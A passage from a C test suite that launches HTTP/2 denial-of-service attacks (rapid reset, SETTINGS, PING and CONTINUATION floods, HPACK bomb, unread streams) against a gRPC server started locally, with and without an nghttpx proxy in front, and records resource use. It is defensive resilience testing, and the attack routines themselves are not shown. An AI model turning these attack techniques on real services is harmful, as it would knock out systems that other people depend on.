    report("TLS renegotiation", sent, server_did, &b, &c, &the.tls, true);
    assert_true(n_handshakes > 0); /* or nothing was tried */
    assert_int_equal(n_renegotiated, 0);
    stop_servers();
}

/* ---- Fixture ---- */

static void start_server(server_process *server, const char *name, const char *address, bool is_tls)
{
    static int n_started = 0; /* a log of its own for each start: the port is read from it */
    char log[1100], db[1100], address_setting[128], key[1200], cert[1200], root[1200];
    snprintf(log, sizeof log, "%s/%s-%d.log", the.dir, name, ++n_started);
    snprintf(db, sizeof db, "ORDERS_SQLITE_DBNAME=%s/%s.db", the.dir, name);
    snprintf(address_setting, sizeof address_setting, "ORDERS_GRPC_SERVER_ADDRESS=%s", address);
    snprintf(key, sizeof key, "GRPC_SSL_PRIVATE_KEY_PATH=%s/pki/orders/orders.key", the.dir);
    snprintf(cert, sizeof cert, "GRPC_SSL_CERTIFICATE_PATH=%s/pki/orders/orders.crt", the.dir);
    snprintf(root, sizeof root, "GRPC_SSL_ROOT_CERTIFICATE_PATH=%s/pki/root/root.crt", the.dir);
    const char *settings[8] = {"APPLICATION_TOPIC=eventsourcing_grpc.example:Orders",
                               "PERSISTENCE_MODULE=eventsourcing.sqlite", db, address_setting};
    size_t n = 4;
    if (is_tls) {
        settings[n++] = key;
        settings[n++] = cert;
        settings[n++] = root;
    }
    char asan[1200];
    if (server_asan_setting(asan, sizeof asan))
        settings[n++] = asan;
    server_start(server, log, settings, n);
}

/* nghttpx as deploy/nghttpx/nghttpx.conf has it, in front of the plaintext server; TLS is not
 * what it is here for (the TLS cases go to the server's own), so its frontend is plaintext. */
static void guard_start(guard *g, int backend_port)
{
    testutil_free_ports(&g->port, 1); /* nghttpx cannot say which port it took */
    snprintf(g->log, sizeof g->log, "%s/nghttpx.log", the.dir);
    char conf[1200], frontend[64], backend[64];
    snprintf(conf, sizeof conf, "--conf=%s/deploy/nghttpx/nghttpx.conf", ESG_SOURCE_DIR);
    snprintf(frontend, sizeof frontend, "--frontend=127.0.0.1,%d;no-tls", g->port);
    snprintf(backend, sizeof backend, "--backend=127.0.0.1,%d;;proto=h2", backend_port);
    char *argv[] = {NGHTTPX, conf, frontend, backend, "--single-process", NULL};
    g->pid = testutil_spawn(argv, g->log, NULL, 0, NULL, 0, NULL);
    assert_true(g->pid > 0);
    for (int tries = 0;; tries++) { /* until it listens */
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)g->port)};
        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        bool is_up = connect(fd, (struct sockaddr *)&address, sizeof address) == 0;
        close(fd);
        if (is_up)
            break;
        if (tries == 100 || waitpid(g->pid, NULL, WNOHANG) != 0)
            fail_msg("nghttpx did not start:\n%s", read_text_file(g->log));
        usleep(100000);
    }
}

static void guard_stop(guard *g)
{
    if (g->pid <= 0)
        return;
    kill(g->pid, SIGTERM);
    int status;
    if (!testutil_reap(g->pid, 10000, &status)) {
        kill(g->pid, SIGKILL);
        waitpid(g->pid, &status, 0);
    }
    g->pid = 0;
}

static void start_plain_server(bool is_guarded)
{
    start_server(&the.plain, "plain", "localhost:0", false);
    snprintf(the.plain_target, sizeof the.plain_target, "localhost:%d", the.plain.port);
    if (is_guarded)
        guard_start(&the.guard, the.plain.port);
}

static void start_tls_server(void)
{
    start_server(&the.tls, "tls", "127.0.0.1:0", true);
    snprintf(the.tls_target, sizeof the.tls_target, "127.0.0.1:%d", the.tls.port);
}

static void stop_cleanly(server_process *server);

/* Stops whichever of nghttpx and the servers runs, checking that the servers stop cleanly. */
static void stop_servers(void)
{
    guard_stop(&the.guard);
    stop_cleanly(&the.plain);
    stop_cleanly(&the.tls);
}

static void create_orders(const char *target, int n)
{
    grpc_channel *channel = raw_channel(target, NULL);
    uint8_t create[64];
    size_t len = create_order_request(create, sizeof create);
    for (int i = 0; i < n; i++) {
        raw_reply reply;
        raw_call(channel, PATH_CALL, create + 5, len - 5, BYSTANDER_DEADLINE_MS, &reply);
        if (reply.status != GRPC_STATUS_OK)
            fail_msg("create_new_order: status %d '%s'", reply.status, reply.details);
        raw_reply_clear(&reply);
    }
    grpc_channel_destroy(channel);
}

static int setup(void **state)
{
    (void)state;
    memset(&the, 0, sizeof the);
    the.dir = testutil_make_temp_dir();
    const char *seconds = getenv("ESG_ATTACK_SECONDS");
    the.attack_ms = seconds != NULL && atoi(seconds) > 0 ? atoi(seconds) * 1000 : ATTACK_MS;
    struct rlimit limit; /* many connections need descriptors, here and in the server */
    getrlimit(RLIMIT_NOFILE, &limit);
    if (limit.rlim_cur < 4096) {
        limit.rlim_cur = limit.rlim_max < 4096 ? limit.rlim_max : 4096;
        setrlimit(RLIMIT_NOFILE, &limit);
    }
    raw_make_pki(the.dir, "pki", "");
    start_plain_server(false);
    create_orders(the.plain_target, N_ORDERS);
    stop_servers();
    the.is_unguarded_run = getenv("ESG_ATTACK_UNGUARDED") != NULL;
    the.has_nghttpx = access(NGHTTPX, X_OK) == 0;
    print_message("| Attack | Sent by the attacker | What it got back | The bystander's calls | "
                  "Server CPU | Server peak RSS, MiB | nghttpx CPU | nghttpx peak RSS, MiB |\n");
    return 0;
}

static void stop_cleanly(server_process *server)
{
    if (server->pid == 0)
        return;
    int status = server_stop(server);
    if (!WIFEXITED(status) || WEXITSTATUS(status) != 0) {
        char *text = read_text_file(server->log);
        fail_msg("the server did not stop cleanly (wait status %d):\n%s", status, text);
    }
}

static int teardown(void **state)
{
    (void)state;
    stop_servers(); /* after a failed case */
    testutil_discard_temp_dir(the.dir);
    return 0;
}

/* Each attack through nghttpx, then straight at the server. */
#define GUARDED_AND_NOT(name, fn, is_reading, has_zero_window, is_guard_only)                      \
    {name, fn, is_reading, has_zero_window, is_guard_only, true},                                  \
    {                                                                                              \
        name, fn, is_reading, has_zero_window, is_guard_only, false                                \
    }

static const attack_case cases[] = {
    GUARDED_AND_NOT("rapid reset", rapid_reset, true, false, true),
    GUARDED_AND_NOT("SETTINGS flood", settings_flood, true, false, true),
    GUARDED_AND_NOT("SETTINGS flood, never read", settings_flood, false, false, false),
    GUARDED_AND_NOT("PING flood", ping_flood, true, false, true),
    GUARDED_AND_NOT("HPACK bomb", hpack_bomb, true, false, false),
    GUARDED_AND_NOT("CONTINUATION flood", continuation_flood, true, false, true),
    GUARDED_AND_NOT("many streams", many_streams, true, false, true),
    GUARDED_AND_NOT("pages never read", unread_pages, false, false, false),
    GUARDED_AND_NOT("pages, zero window", unread_pages, true, true, false),
    GUARDED_AND_NOT("subscriptions never read", unread_subscriptions, false, false, false),
};

#define N_CASES (sizeof cases / sizeof cases[0])

int main(void)
{
    struct CMUnitTest tests[N_CASES + 4];
    static const bool through_nghttpx = true, straight = false;
    char names[N_CASES][96];
    for (size_t i = 0; i < N_CASES; i++) {
        snprintf(names[i], sizeof names[i], "%s%s", cases[i].name,
                 cases[i].is_guarded ? ", through nghttpx" : "");
        tests[i] = (struct CMUnitTest){names[i], run_attack, NULL, NULL, (void *)&cases[i]};
    }
    tests[N_CASES] = (struct CMUnitTest){"many connections, through nghttpx", test_many_connections,
                                         NULL, NULL, (void *)&through_nghttpx};
    tests[N_CASES + 1] = (struct CMUnitTest){"many connections", test_many_connections, NULL, NULL,
                                             (void *)&straight};
    tests[N_CASES + 2] = (struct CMUnitTest)cmocka_unit_test(test_stalled_handshakes);
    tests[N_CASES + 3] = (struct CMUnitTest)cmocka_unit_test(test_renegotiation);
    return raw_run_grpc_tests("http2_attacks", tests, N_CASES + 4, setup, teardown);
}
